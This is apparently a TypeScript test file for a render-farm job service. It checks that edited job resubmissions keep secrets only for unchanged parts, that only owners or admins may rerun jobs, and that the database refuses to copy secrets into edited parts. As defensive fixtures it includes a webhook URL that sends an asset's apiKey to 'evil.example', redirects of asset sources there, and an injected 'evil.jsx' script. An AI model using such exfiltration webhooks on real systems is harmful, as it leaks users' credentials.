import { keepSecrets, splitSecrets } from '@renderdeck/domain';
import { expect, it } from 'vitest';
import { claimJob, getJob, readSecrets, submitJob } from '../../src/index.ts';
import { aFarm, aRequestContext, cancel, expectAudit, expectDone } from '../../testing/index.ts';

const farm = aFarm();
const sam = aRequestContext(farm.db, 'sam', 'submitter');
const eve = aRequestContext(farm.db, 'eve', 'submitter');
const SECRET = 's3cr3t-of-sam';
const IMAGE = { type: 'image', layerName: 'x', src: 'https://files.example/a.png', apiKey: SECRET };
const DATA = { type: 'data', layerName: 'y', property: 'Text', value: 'v', token: SECRET };
const ORDER = {
  template: { src: `https://render:${SECRET}@files.example/intro.aep`, composition: 'main' },
  assets: [{ type: 'audio', src: 'file:///a.wav' }, IMAGE, DATA],
};
const { shown } = splitSecrets(ORDER);
const WEBHOOK = {
  module: '@nexrender/action-webhook',
  url: 'https://evil.example/{job.assets.1.apiKey}',
};
type Shown = typeof ORDER & { password?: string };
const asShown = (): Shown => JSON.parse(JSON.stringify(shown));
const LIMITS = { totalMs: 120_000 };
const submit = async (by = sam) => {
  const order = { name: 'Intro', priority: 50, nexrenderJob: ORDER, limits: LIMITS };
  return expectDone(await submitJob(by, order)).view.job.id;
};
const again = (rerunOf: string, nexrenderJob: unknown, by = sam) =>
  submitJob(by, { name: 'Again', priority: 40, nexrenderJob, rerunOf });

it('an edited copy keeps the secrets of its unchanged parts, and gets new ones', async () => {
  await farm.worker('idle-01');
  const id = await submit();
  const job = asShown();
  job.template.composition = 'spring';
  job.assets.shift();
  job.password = 'typed';
  const seen = await farm.trace(() => again(id, job));
  const { view } = expectDone(seen.result);
  expect(view).toMatchObject({ job: { name: 'Again', priority: 40 }, rerunOf: id, rerunBy: [] });
  expect(JSON.stringify(seen)).not.toMatch(/s3cr3t|typed/);
  expectAudit(seen, {
    action: 'submitJob',
    outcome: 'done',
    actor: 'sam',
    jobId: view.job.id,
    after: { name: 'Again', priority: 40, rerunOf: id },
  });
  expect(seen.changes.map(({ jobId, event, facts }) => [jobId, event, facts])).toEqual([
    [view.job.id, 'submit', { rerunOf: id }],
    [id, 'resubmit', { rerunBy: view.job.id }],
  ]);
  expect(expectDone(await getJob(farm, { id })).view.rerunBy).toEqual([view.job.id]);
  const { hidden } = expectDone(await getJob(farm, { id: view.job.id }));
  expect(hidden.map(({ path }) => path.join('.')).sort()).toEqual([
    ...['assets.0.apiKey', 'assets.1.token', 'password', 'template.src'],
  ]);
  await cancel(farm, id);
  const worker = await farm.worker();
  const attempt = expectDone(await claimJob(worker, { leaseMs: 30_000 })).job;
  expect(attempt).toMatchObject({ jobId: view.job.id, limits: LIMITS });
  const { nexrenderJob } = attempt;
  expect(await readSecrets(worker, { attempt, nexrenderJob })).toMatchObject({
    ok: true,
    nexrenderJob: {
      template: { ...ORDER.template, composition: 'spring' },
      assets: [IMAGE, DATA],
      password: 'typed',
    },
  });
});

it('only the submitter and admins; a lost secret queues nothing; a key queues once', async () => {
  const id = await submit();
  const refused = await farm.trace(() => again(id, asShown(), eve));
  expect(refused).toMatchObject({
    result: { ok: false, rejection: { code: 'notOwnJob', submittedBy: 'sam' } },
    changes: [],
  });
  expect((await again(id, asShown(), farm.admin)).ok).toBe(true);
  const job = asShown();
  Object.assign(job.assets[1] ?? {}, { src: 'https://evil.example/a.png' });
  const lost = await farm.trace(() => again(id, job));
  expect(lost).toMatchObject({
    result: { ok: false, rejection: { code: 'secretsLost', places: ['assets[1].apiKey'] } },
    changes: [],
    audit: [],
  });
  const keyed = {
    ...{ name: 'Once', priority: 40, nexrenderJob: asShown(), rerunOf: id },
    idempotencyKey: 'edited-1',
  };
  const first = expectDone(await submitJob(sam, keyed)).view.job.id;
  expect(expectDone(await submitJob(sam, keyed)).view.job.id).toBe(first);
  const unlinked = { ...keyed, rerunOf: undefined };
  expect(await submitJob(sam, unlinked)).toMatchObject({ rejection: { code: 'keyReused' } });
  await farm.sql`delete from job_secrets where job_id = ${id}`;
  await farm.sql`update job_definitions set secrets_deleted_at = now() where job_id = ${id}`;
  expect(await again(id, asShown())).toMatchObject({ rejection: { code: 'secretsLost' } });
  expect(await again(id, ORDER)).toMatchObject({ ok: true, view: { rerunOf: id } });
});

it('the database itself copies no secret into a part that was edited', async () => {
  const { hidden } = splitSecrets(ORDER);
  const { parts } = keepSecrets({ shown, hidden, areDeleted: false }, shown);
  const edits: readonly ((job: Shown) => unknown)[] = [
    (job) => Object.assign(job.template, { src: 'https://•••@evil.example/intro.aep' }),
    (job) => Object.assign(job.assets[1] ?? {}, { src: 'https://evil.example/a.png' }),
    (job) => Object.assign(job.assets, { 3: { type: 'script', src: 'file:///evil.jsx' } }),
    (job) => Object.assign(job.template, { params: { password: 'own' } }),
    (job) => Object.assign(job.assets[1] ?? {}, { password: 'own' }),
    // An action gets the whole job.
    (job) => Object.assign(job, { actions: { postrender: [WEBHOOK] } }),
    (job) => Object.assign(job, { actions: { postrender: WEBHOOK } }),
    // What is shown is as it was, and a secret of the copy would take its place.
    (job) => Object.assign(job.template, { src: 'https://own:pass@files.example/intro.aep' }),
  ];
  const id = await submit();
  const copy = async (of: string, given: unknown) =>
    await farm.sql`select copy_secrets(${id}, ${of}, ${JSON.stringify(given)}::text::jsonb)`;
  for (const edit of edits) {
    const job = asShown();
    edit(job);
    const made = await submitJob(sam, { name: 'Own', priority: 40, nexrenderJob: job });
    const of = expectDone(made).view.job.id;
    await expect(copy(of, parts)).rejects.toThrow(/cannot be copied/);
    await farm.sql`update job_definitions set rerun_of = ${id} where job_id = ${of}`;
    await expect(copy(of, parts)).rejects.toThrow(/was edited/);
  }
  const made = await submitJob(sam, { name: 'Own', priority: 40, nexrenderJob: asShown() });
  const of = expectDone(made).view.job.id;
  await farm.sql`delete from job_secrets where job_id = ${of}`;
  await farm.sql`update job_definitions set rerun_of = ${id} where job_id = ${of}`;
  const inside = [{ from: ['assets', 1, 'apiKey'], to: ['assets', 1, 'apiKey'] }];
  const moved = [{ from: ['assets', 1], to: ['template', 'src'] }];
  for (const wrong of [inside, moved]) await expect(copy(of, wrong)).rejects.toThrow(/was edited/);
  await copy(of, parts);
  const [row] = await farm.sql`select secrets from job_secrets where job_id = ${of}`;
  expect(JSON.stringify(row?.secrets).split(SECRET)).toHaveLength(4);
});
